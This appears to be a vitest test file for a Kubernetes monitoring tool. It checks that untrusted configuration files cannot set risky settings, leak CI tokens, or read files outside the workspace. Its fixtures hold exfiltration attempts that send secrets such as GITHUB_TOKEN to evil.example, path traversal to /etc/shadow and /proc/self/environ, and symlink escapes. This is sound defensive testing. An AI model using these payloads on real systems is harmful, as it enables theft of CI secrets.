import { mkdir, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { sectionKeys } from "../../../src/config/file.ts";
import { sections } from "../../../src/config/sections.ts";
import { type SettingName, settingNames, settings } from "../../../src/config/settings.ts";
import type { ConfigSources } from "../../../src/config/sources.ts";
import { createWorkspace } from "../../../src/host/workspace.ts";
import { inFolder } from "../in-folder.ts";

const canaries = {
  ACTIONS_RUNTIME_TOKEN: "canary-runtime",
  GITHUB_TOKEN: "canary-github",
  INPUT_TOKEN: "canary-input",
  RUNNER_TOKEN: "canary-runner",
  STATE_TOKEN: "canary-state",
  OWN_TOKEN: "canary-own",
};

/** A folder whose files a stranger wrote, in a job that has secrets. */
async function strange(files: Record<string, string>, variables: readonly string[] = []) {
  const folder = await inFolder(files);
  const trust = { level: "restricted", why: "a test", variables } as const;
  const restricted = {
    trust,
    workspace: createWorkspace(folder.cwd),
    env: { HOME: "/home/ann", ...canaries },
  };
  return {
    ...folder,
    load: (more: Partial<ConfigSources> = {}) => folder.load({ ...restricted, ...more }),
    mistake: (more: Partial<ConfigSources> = {}) => folder.mistake({ ...restricted, ...more }),
    full: (more: Partial<ConfigSources> = {}) => folder.mistake({ env: restricted.env, ...more }),
  };
}

const ways = "set it by the input NAME (--NAME), or set trust: full if you know who wrote this file";

/** A right value of each setting that no stranger's file may set. */
const refusedSettings: Partial<Record<SettingName, string>> = {
  kubeconfig: "./kubeconfig",
  context: "prod",
  "k3s-path": "./k3s",
  "k3s-args": "[--kubelet-arg=x]",
  "k3s-images": "[./images]",
  "helm-path": "/usr/local/bin/helm",
  "kubectl-path": "./kubectl",
  mirrors: "{'https://': 'http://evil.example/'}",
  "lock-file": "other.lock",
  bundle: "./bundle.tar",
  "amtool-path": "./amtool",
  "promtool-path": "./promtool",
  "keep-data": "true",
  "report-dir": "./report",
};

describe("each setting has a class for restricted mode", () => {
  it("which says that it is in no file exactly where it is in none", () => {
    for (const name of settingNames()) {
      const { inFile, inRestricted } = settings[name];
      expect([name, inRestricted?.kind === "not-in-files"]).toEqual([name, inFile === undefined]);
    }
  });

  it("and so has each section and each key of an app", () => {
    expect(Object.keys(sections).sort()).toEqual([...sectionKeys()].sort());
  });

  // A program, a cluster, a host or a folder that is written would be one by its name.
  it("and none that names a program, a folder to write or a cluster is allowed", () => {
    const suspicious = settingNames().filter((name) =>
      /path$|args|dir$|kubeconfig|context|mirror|bundle|lock/.test(name),
    );
    const allowed = suspicious.filter((name) => settings[name].inRestricted.kind === "allowed");
    expect(allowed).toEqual([]);
  });

  it("and the test below has a value for each that is refused", () => {
    const names = settingNames().filter((name) => settings[name].inRestricted.kind === "refused");
    expect(Object.keys(refusedSettings).sort()).toEqual(names.sort());
  });
});

describe.each(Object.entries(refusedSettings))("the setting %s", (name, value) => {
  const [first = "", second] = settings[name as SettingName].inFile ?? [];
  const yaml = second === undefined ? `${first}: ${value}\n` : `${first}:\n  ${second}: ${value}\n`;
  const { inRestricted } = settings[name as SettingName];
  const because = inRestricted.kind === "refused" ? inRestricted.because : "";

  it("is refused in a stranger's file, with its place and what to do", async () => {
    await using folder = await strange({ "monstack.yaml": yaml });
    const place = second === undefined ? `1:${first.length + 3}` : `2:${second.length + 5}`;
    expect(await folder.mistake()).toBe(
      `UserError: monstack.yaml:${place}: ${[first, second].filter(Boolean).join(".")}: ${because}; ` +
        `a file can't set it with trust: restricted (a test); ${ways.replaceAll("NAME", name)}`,
    );
  });

  it("works in a file that is trusted", async () => {
    await using folder = await strange({ "monstack.yaml": yaml });
    expect(await folder.full()).toBe("it was loaded");
  });

  it("does nothing in a stranger's file where an input sets it", async () => {
    await using folder = await strange({ "monstack.yaml": yaml });
    const given =
      name === "mirrors" ? "https://=https://mirror.example/" : name === "keep-data" ? "false" : "own";
    const { config, origins } = await folder.load({ inputs: { [name]: given } });
    expect(origins[name as SettingName]).toBe("input");
    expect(JSON.stringify(config)).not.toMatch(/evil\.example|kubelet-arg=x|"prod"/);
  });
});

describe("how far files are trusted is said by no file", () => {
  it.each([
    ["trust: full", "1:8: trust: can't be set in a file; expected --trust, the input trust or MONSTACK_TRUST"],
    ["env: [OWN_TOKEN]", "1:6: env: can't be set in a file; expected --env or the input env"],
  ])("%s", async (yaml, problem) => {
    await using folder = await strange({ "monstack.yaml": yaml });
    expect(await folder.mistake()).toBe(`UserError: monstack.yaml:${problem}`);
    expect(await folder.full()).toBe(`UserError: monstack.yaml:${problem}`);
  });
});

/** Each place of a configuration that names a variable. */
const naming: Record<string, (name: string) => Record<string, string>> = {
  "repos.password": (name) => ({
    "monstack.yaml": `repos: {evil: {url: "https://evil.example", username: x, password: "\${${name}}"}}`,
  }),
  "repos.username": (name) => ({
    "monstack.yaml": `repos: {evil: {url: "https://evil.example", username: "\${${name}}", password: "\${${name}}"}}`,
  }),
  "registries.password": (name) => ({
    "monstack.yaml": `registries: {evil.example: {username: x, password: "\${${name}}"}}`,
  }),
  "remote-write.bearer-token-env": (name) => ({
    "monstack.yaml": `remote-write: [{url: "https://evil.example", bearer-token-env: ${name}}]`,
  }),
  "federate.basic-auth": (name) => ({
    "monstack.yaml": `federate: [{targets: ["evil.example:80"], match: ['{job="x"}'], basic-auth: {username: x, password-env: ${name}}}]`,
  }),
  "checks.http.headers": (name) => ({
    "monstack.yaml": `checks: [{name: x, http: {url: "https://evil.example", headers: {X-Stolen: "\${${name}}"}}}]`,
  }),
  "checks.http.body": (name) => ({
    "monstack.yaml": `checks: [{name: x, http: {url: "https://evil.example", body: {stolen: "\${${name}}"}}}]`,
  }),
  "alerting.config": (name) => ({
    "monstack.yaml": `alerting: {config: {receivers: [{name: x, webhook_configs: [{url: "https://evil.example/\${${name}}"}]}]}}`,
  }),
  "a file of alerting.config": (name) => ({
    "monstack.yaml": "alerting: {config: am.yaml}",
    "am.yaml": `receivers: [{name: x, webhook_configs: [{url: "https://evil.example/\${${name}}"}]}]`,
  }),
  "a reference that YAML escapes": (name) => ({
    "monstack.yaml": "alerting: {config: am.yaml}",
    "am.yaml": `receivers: [{name: x, webhook_configs: [{url: "https://evil.example/\\x24\\x7b${name}}"}]}]`,
  }),
  "sbkube's helm_repos": (name) => ({
    "monstack.yaml": "app-dir: app",
    "app/sbkube.yaml": `settings: {helm_repos: {evil: {url: "https://evil.example", username: x, password: "\${${name}}"}}}`,
  }),
  "sbkube's oci_registries": (name) => ({
    "monstack.yaml": "app-dir: app",
    "app/sbkube.yaml": `settings: {oci_registries: {evil: {registry: evil.example, username: x, password: "\${${name}}"}}}`,
  }),
};

describe.each(Object.entries(naming))("a variable that is named in %s", (_, files) => {
  it.each(["ACTIONS_RUNTIME_TOKEN", "GITHUB_TOKEN", "INPUT_TOKEN", "RUNNER_TOKEN", "STATE_TOKEN"])(
    "is not %s in a stranger's file, even where the input env lists it",
    async (name) => {
      await using folder = await strange(files(name), [name]);
      const told = await folder.mistake();
      expect(told).toContain(
        name === "ACTIONS_RUNTIME_TOKEN" ? "is the runner's own" : `${name} can't be named`,
      );
      expect(told).toMatch(/^UserError: (2 mistakes.*\n +)?(monstack|am|app\/sbkube)\.yaml:1:\d+: /);
      expect(told).not.toContain("canary");
    },
  );

  it("is one that the input env lists", async () => {
    await using folder = await strange(files("OWN_TOKEN"), ["OWN_TOKEN"]);
    expect(await folder.mistake()).toBe("it was loaded");
  });

  it("is none that it doesn't list", async () => {
    await using folder = await strange(files("OWN_TOKEN"), ["OTHER"]);
    expect(await folder.mistake()).toContain(
      "OWN_TOKEN can't be named with trust: restricted (a test); the input env (--env OWN_TOKEN) allows it",
    );
    const { variables } = await (await strange({}, ["OWN_TOKEN"])).load();
    expect(variables).toEqual({ OWN_TOKEN: "canary-own" });
  });

  it("is any but the runner's own where files are trusted", async () => {
    await using folder = await strange(files("GITHUB_TOKEN"));
    expect(await folder.full()).toBe("it was loaded");
    await using runners = await strange(files("ACTIONS_RUNTIME_TOKEN"));
    expect(await runners.full()).toContain("ACTIONS_RUNTIME_TOKEN is the runner's own");
  });
});

function fromApp(path: string): string {
  return path.startsWith("/") ? path : `../${path}`;
}

/** Each place of a configuration that names a file or a folder. */
const paths: Record<string, (path: string) => Record<string, string>> = {
  "app-dir": (path) => ({ "monstack.yaml": `app-dir: ${path}` }),
  "alerting.config": (path) => ({ "monstack.yaml": `alerting: {config: ${path}}` }),
  "file: of alerting.config": (path) => ({
    "monstack.yaml": `alerting: {config: {receivers: [{name: x, webhook_configs: [{url_file: "\${file:${path}}"}]}]}}`,
  }),
  "file: of a file of alerting.config": (path) => ({
    "monstack.yaml": "alerting: {config: am.yaml}",
    "am.yaml": `receivers: [{name: x, webhook_configs: [{url_file: "\\x24\\x7bfile:${path}}"}]}]`,
  }),
  "alerting.rule-tests": (path) => ({ "monstack.yaml": `alerting: {rule-tests: [${path}]}` }),
  rules: (path) => ({ "monstack.yaml": `rules: [${path}]` }),
  monitors: (path) => ({ "monstack.yaml": `stack: operator\nmonitors: [${path}]` }),
  dashboards: (path) => ({ "monstack.yaml": `dashboards: [{file: ${path}}]` }),
  "dashboards.dir": (path) => ({ "monstack.yaml": `dashboards: [{dir: ${path}}]` }),
  "apps.values": (path) => ({ "monstack.yaml": `apps: {grafana: {values: [${path}]}}` }),
  "apps.chart": (path) => ({
    "monstack.yaml": `apps: {own: {chart: ${path.startsWith("/") ? path : `./${path}`}}}`,
  }),
  "apps.manifests": (path) => ({ "monstack.yaml": `apps: {own: {manifests: [${path}]}}` }),
  "registries.ca": (path) => ({ "monstack.yaml": `registries: {evil.example: {ca: ${path}}}` }),
  "verify.backups": (path) => ({ "monstack.yaml": `verify: {backups: ${path}}` }),
  "verify.dashboard-baseline": (path) => ({ "monstack.yaml": `verify: {dashboard-baseline: ${path}}` }),
  "sbkube's values": (path) => ({
    "monstack.yaml": "app-dir: app",
    "app/sbkube.yaml": `apps: {own: {type: helm, chart: ./chart, values: [${fromApp(path)}]}}`,
  }),
  "sbkube's cluster_values_file": (path) => ({
    "monstack.yaml": "app-dir: app",
    "app/sbkube.yaml": `settings: {cluster_values_file: ${fromApp(path)}}`,
  }),
};

describe.each(Object.entries(paths))(
  "a path that is named in %s leads nowhere but into the workspace",
  (_, files) => {
    it.each([
      ["/proc/self/environ", "it lies outside the workspace"],
      ["/etc/shadow", "it lies outside the workspace"],
      ["../../../etc/shadow", "it lies outside the workspace"],
      [".git/config", ".git can hold secrets of the job"],
      ["sub/.GIT/config", ".GIT can hold secrets of the job"],
      ["gha-creds-0123.json", "gha-creds-0123.json can hold secrets of the job"],
      ["link", "it lies outside the workspace"],
      ["folder-link/environ", "it lies outside the workspace"],
      ["link-to-git/config", ".git can hold secrets of the job"],
      ["broken", "it leads through a link to nothing, or in a circle"],
      ["circle/x", "it leads through a link to nothing, or in a circle"],
    ])("%s", async (path, why) => {
      await using folder = await strange({
        ...files(path),
        ".git/config": "token",
        "gha-creds-0123.json": "{}",
      });
      await symlink("/proc/self/environ", join(folder.cwd, "link"));
      await symlink("/proc/self", join(folder.cwd, "folder-link"));
      await symlink(".git", join(folder.cwd, "link-to-git"));
      await symlink("/tmp/none/at/all", join(folder.cwd, "broken"));
      await symlink("circle", join(folder.cwd, "circle"));
      const told = await folder.mistake();
      expect(told).toContain(`${why}, and trust is restricted (a test)`);
      expect(told).toMatch(/(monstack|am|app\/sbkube)\.yaml:\d:\d+: /);
      expect(told).not.toContain("canary");
    });
  },
);

describe("with restricted trust", () => {
  it("what lies in the workspace is read, through links too", async () => {
    await using folder = await strange({
      "monstack.yaml":
        "apps: {grafana: {values: [values-link.yaml, ./deep/../values.yaml]}}\nrules: [rules]\n",
      "values.yaml": "replicas: 1",
      "rules/a.yaml": "groups: []",
    });
    await symlink("values.yaml", join(folder.cwd, "values-link.yaml"));
    expect(await folder.mistake({ listFolder: async () => ["a.yaml"] })).toBe("it was loaded");
  });

  it("an input may name a file elsewhere", async () => {
    await using elsewhere = await inFolder({ "values.json": '{"panels": []}' });
    await using folder = await strange({});
    const inputs = { dashboards: join(elsewhere.cwd, "values.json") };
    expect(await folder.mistake({ inputs })).toBe("it was loaded");
  });

  it("a registry's certificate is verified", async () => {
    await using folder = await strange({ "monstack.yaml": "registries: {evil.example: {insecure: true}}" });
    expect(await folder.mistake()).toContain(
      'monstack.yaml:1:39: registries."evil.example".insecure: a file can\'t do without',
    );
    expect(await folder.full()).toBe("it was loaded");
  });

  it("nothing is built that reads files by itself", async () => {
    const files = { "monstack.yaml": "apps: {own: {kustomize: .}}", "kustomization.yaml": "resources: []" };
    await using folder = await strange(files);
    expect(await folder.mistake()).toContain(
      "apps.own.kustomize: a kustomization reads files of its own choice",
    );
    expect(await folder.full()).toBe("it was loaded");
  });

  it("a workspace that is itself a link is one folder by both names", async () => {
    await using folder = await strange({ "monstack.yaml": "rules: [r.yaml]", "r.yaml": "groups: []" });
    const alias = `${folder.cwd}-alias`;
    await symlink(folder.cwd, alias);
    try {
      const { config } = await folder.load({ cwd: alias, workspace: createWorkspace(alias) });
      expect(config.rules).toEqual([join(alias, "r.yaml")]);
    } finally {
      await rm(alias);
    }
  });

  it("a folder beside the workspace whose name begins like its own is outside", async () => {
    await using folder = await strange({ "monstack.yaml": "" });
    const beside = `${folder.cwd}-secret`;
    await mkdir(beside);
    try {
      await writeFile(join(beside, "r.yaml"), "groups: []");
      await writeFile(join(folder.cwd, "monstack.yaml"), `rules: [${beside}/r.yaml]`);
      expect(await folder.mistake()).toContain("it lies outside the workspace");
    } finally {
      await rm(beside, { recursive: true });
    }
  });
});
